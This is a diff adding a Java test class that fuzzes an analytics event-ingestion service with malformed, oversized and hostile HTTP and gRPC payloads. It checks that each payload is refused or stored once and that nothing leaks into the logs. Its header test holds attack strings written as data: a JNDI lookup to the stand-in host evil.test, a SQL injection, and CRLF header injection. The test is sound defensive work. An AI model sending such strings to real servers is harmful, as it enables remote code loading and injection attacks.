@@ -1,0 +1,289 @@
+package dev.touchstone.touchpoint.service;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import dev.touchstone.testing.database.PostgresTestResource;
+import dev.touchstone.touchpoint.v1.IngestWebEventsRequest;
+import dev.touchstone.touchpoint.v1.IngestWebEventsResponse;
+import dev.touchstone.touchpoint.v1.Site;
+import dev.touchstone.touchpoint.v1.WebEventServiceGrpc;
+import io.agroal.api.AgroalDataSource;
+import io.grpc.CallOptions;
+import io.grpc.MethodDescriptor;
+import io.grpc.StatusRuntimeException;
+import io.grpc.stub.ClientCalls;
+import io.quarkus.test.common.WithTestResource;
+import io.quarkus.test.common.http.TestHTTPResource;
+import io.quarkus.test.junit.QuarkusTest;
+import io.quarkus.test.junit.QuarkusTestProfile;
+import io.quarkus.test.junit.TestProfile;
+import jakarta.inject.Inject;
+import java.io.ByteArrayInputStream;
+import java.io.IOException;
+import java.io.InputStream;
+import java.io.UncheckedIOException;
+import java.net.Socket;
+import java.net.URI;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
+import java.util.List;
+import java.util.Map;
+import java.util.Queue;
+import java.util.Random;
+import java.util.Set;
+import java.util.concurrent.ConcurrentHashMap;
+import java.util.concurrent.ConcurrentLinkedQueue;
+import java.util.concurrent.ExecutorService;
+import java.util.concurrent.Executors;
+import java.util.concurrent.TimeUnit;
+import java.util.concurrent.atomic.AtomicLong;
+import java.util.logging.Handler;
+import java.util.logging.LogRecord;
+import java.util.logging.Logger;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+
+/** Ten thousand payloads that are malformed, hostile or too large: refused with a reason, or stored once. */
+@QuarkusTest
+@WithTestResource(PostgresTestResource.class)
+@WithTestResource(MappingStub.class)
+@TestProfile(HostileClientsTest.WithoutLimits.class)
+class HostileClientsTest {
+    private static final int HTTP_PAYLOADS = 8_000;
+    private static final int GRPC_PAYLOADS = 2_000;
+    private static final int THREADS = 4;
+
+    /** Everything comes from one address and few visitors. */
+    public static final class WithoutLimits implements QuarkusTestProfile {
+        @Override
+        public Map<String, String> getConfigOverrides() {
+            return Map.of(
+                    "touchpoint.derivation.workers", "0",
+                    "touchpoint.remap.enabled", "false",
+                    "touchpoint.collector.visitor-rate.events-per-minute", "0",
+                    "touchpoint.collector.address-rate.events-per-minute", "0");
+        }
+    }
+
+    @TestHTTPResource("/")
+    URI service;
+
+    @Inject
+    AgroalDataSource dataSource;
+
+    private TouchpointClient client;
+    private StoredState state;
+    private Site site;
+    private final LogWatch logs = new LogWatch();
+
+    @BeforeEach
+    void begin() {
+        client = new TouchpointClient(service);
+        state = new StoredState(dataSource);
+        state.awaitSchema();
+        state.clear();
+        state.execute("DELETE FROM site");
+        site = new Collector(service, client.channel()).site("acme", "acme.com");
+        Logger.getLogger("").addHandler(logs);
+    }
+
+    @AfterEach
+    void end() {
+        Logger.getLogger("").removeHandler(logs);
+        client.close();
+    }
+
+    @Test
+    void whatIsRefusedIsNotStoredAndWhatIsAcknowledgedIsStoredOnce() throws Exception {
+        AtomicLong accepted = new AtomicLong();
+        Set<String> refused = ConcurrentHashMap.newKeySet();
+        Queue<String> wrong = new ConcurrentLinkedQueue<>();
+        try (ExecutorService threads = Executors.newFixedThreadPool(THREADS)) {
+            for (int thread = 0; thread < THREADS; thread++) {
+                int seed = thread;
+                threads.execute(() -> send(seed, accepted, refused, wrong));
+            }
+            threads.shutdown();
+            assertThat(threads.awaitTermination(10, TimeUnit.MINUTES)).isTrue();
+        }
+        assertThat(wrong).isEmpty();
+        assertThat(accepted.get()).isPositive().isEqualTo(state.count("web_event"));
+        assertThat(refused)
+                .hasSizeGreaterThan(100)
+                .doesNotContainAnyElementsOf(state.texts("SELECT event_id FROM web_event"));
+        assertThat(state.texts("SELECT page_url FROM web_event WHERE page_url LIKE '%" + HostilePayloads.VICTIM + "%'"
+                        + " OR referrer_url LIKE '%mailId=" + HostilePayloads.VICTIM + "%'"))
+                .isEmpty();
+        assertThat(logs.leaks).isEmpty();
+    }
+
+    @Test
+    void protobufGarbageIsRefusedAndTheConnectionGoesOn() {
+        AtomicLong accepted = new AtomicLong();
+        HostilePayloads payloads = new HostilePayloads(99, site.getWriteKey(), System.currentTimeMillis());
+        Random random = new Random(99);
+        for (int i = 0; i < GRPC_PAYLOADS; i++) {
+            byte[] good = IngestWebEventsRequest.newBuilder()
+                    .addWebEvents(Facts.pageView("v", "g-" + i, Facts.at("09:00"), "https://acme.com/")
+                            .setReferrerUrl("https://acme.com/?mailId=" + HostilePayloads.VICTIM))
+                    .build()
+                    .toByteArray();
+            byte[] body = random.nextInt(3) == 0 ? payloads.noise(random.nextInt(500)) : payloads.damaged(good);
+            accepted.addAndGet(ingest(body));
+        }
+        assertThat(client.ingest(Facts.pageView("v", "last", Facts.at("09:00"), "https://acme.com/")
+                                .build())
+                        .getAcceptedCount())
+                .isEqualTo(1);
+        assertThat(state.count("web_event")).isEqualTo(accepted.get() + 1);
+        assertThat(logs.leaks).isEmpty();
+    }
+
+    @Test
+    void headersAreHarmless() throws IOException {
+        for (String header : List.of(
+                "Cookie: a=b; Touchstone=<script>; =;;;",
+                "Cookie: " + "c".repeat(7_000),
+                "Origin: https://acme.com\r\nSet-Cookie: x=y",
+                "Origin: \u0001\u0002",
+                "X-Forwarded-For: " + "1.2.3.4, ".repeat(500),
+                "X-Forwarded-For: ' OR 1=1 --",
+                "User-Agent: ${jndi:ldap://evil.test/a}",
+                "Content-Type: application/json; charset=\"\r\n x",
+                "Content-Encoding: gzip",
+                "Content-Encoding: br",
+                "Authorization: Basic \u00ff\u00fe",
+                "Bad Header: x",
+                ": x",
+                "Content-Length: -1",
+                "Transfer-Encoding: chunked")) {
+            String answer = raw("POST /v1/events HTTP/1.1\r\nHost: a\r\nConnection: close\r\n" + header
+                    + "\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}");
+            assertThat(answer).as(header).doesNotStartWith("HTTP/1.1 5").doesNotContainIgnoringCase("set-cookie");
+        }
+        assertThat(state.count("web_event")).isZero();
+    }
+
+    private void send(int seed, AtomicLong accepted, Set<String> refused, Queue<String> wrong) {
+        HostilePayloads payloads = new HostilePayloads(seed, site.getWriteKey(), System.currentTimeMillis());
+        try (HttpClient http =
+                HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build()) {
+            for (int i = 0; i < HTTP_PAYLOADS / THREADS; i++) {
+                byte[] body = payloads.next("h-" + seed + "-" + i);
+                try {
+                    HttpResponse<String> answer = http.send(
+                            HttpRequest.newBuilder(service.resolve("/v1/events"))
+                                    .header("Content-Type", "application/json")
+                                    .header("User-Agent", Collector.BROWSER)
+                                    .POST(HttpRequest.BodyPublishers.ofByteArray(body))
+                                    .build(),
+                            HttpResponse.BodyHandlers.ofString());
+                    read(answer, accepted, refused, wrong);
+                } catch (IOException e) {
+                    // Who sends a megabyte may find the door shut before the end of it.
+                    if (body.length < 64 * 1024) {
+                        wrong.add("seed " + seed + ", payload " + i + ": " + e);
+                    }
+                }
+            }
+        } catch (InterruptedException e) {
+            Thread.currentThread().interrupt();
+        }
+    }
+
+    private static void read(HttpResponse<String> answer, AtomicLong accepted, Set<String> refused, Queue<String> wrong)
+            throws IOException {
+        JsonNode json = new ObjectMapper().readTree(answer.body());
+        if (answer.statusCode() == 200) {
+            accepted.addAndGet(json.get("accepted").longValue());
+            json.get("refused").forEach(event -> {
+                String id = event.get("id").textValue();
+                if (id.startsWith("h-")) {
+                    refused.add(id);
+                }
+            });
+        } else if (!(List.of(400, 401, 413, 415, 429, 503).contains(answer.statusCode())
+                && json.path("error").has("reason"))) {
+            wrong.add(answer.statusCode() + " " + answer.body());
+        }
+    }
+
+    private long ingest(byte[] body) {
+        MethodDescriptor<byte[], IngestWebEventsResponse> method =
+                WebEventServiceGrpc.getIngestWebEventsMethod().toBuilder(
+                                new Bytes(),
+                                WebEventServiceGrpc.getIngestWebEventsMethod().getResponseMarshaller())
+                        .build();
+        try {
+            // One message, and then the end of the stream.
+            return ClientCalls.blockingUnaryCall(
+                            client.channel(),
+                            method.toBuilder()
+                                    .setType(MethodDescriptor.MethodType.UNARY)
+                                    .build(),
+                            CallOptions.DEFAULT.withDeadlineAfter(1, TimeUnit.MINUTES),
+                            body)
+                    .getAcceptedCount();
+        } catch (StatusRuntimeException refused) {
+            return 0;
+        }
+    }
+
+    private String raw(String request) throws IOException {
+        try (Socket socket = new Socket(service.getHost(), service.getPort())) {
+            socket.setSoTimeout(30_000);
+            socket.getOutputStream().write(request.getBytes(StandardCharsets.ISO_8859_1));
+            socket.getOutputStream().flush();
+            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1);
+        }
+    }
+
+    /** What is sent as it is. */
+    private static final class Bytes implements MethodDescriptor.Marshaller<byte[]> {
+        @Override
+        public InputStream stream(byte[] value) {
+            return new ByteArrayInputStream(value);
+        }
+
+        @Override
+        public byte[] parse(InputStream stream) {
+            try {
+                return stream.readAllBytes();
+            } catch (IOException e) {
+                throw new UncheckedIOException(e);
+            }
+        }
+    }
+
+    /** Finds addresses in what is logged. */
+    private static final class LogWatch extends Handler {
+        private final Queue<String> leaks = new ConcurrentLinkedQueue<>();
+
+        @Override
+        public void publish(LogRecord logged) {
+            String line = logged.getMessage()
+                    + ' '
+                    + java.util.Arrays.toString(logged.getParameters())
+                    + ' '
+                    + logged.getThrown();
+            if (line.contains("example.com")) {
+                leaks.add(line);
+            }
+        }
+
+        @Override
+        public void flush() {
+            // Nothing is kept back.
+        }
+
+        @Override
+        public void close() {
+            // Nothing is open.
+        }
+    }
+}
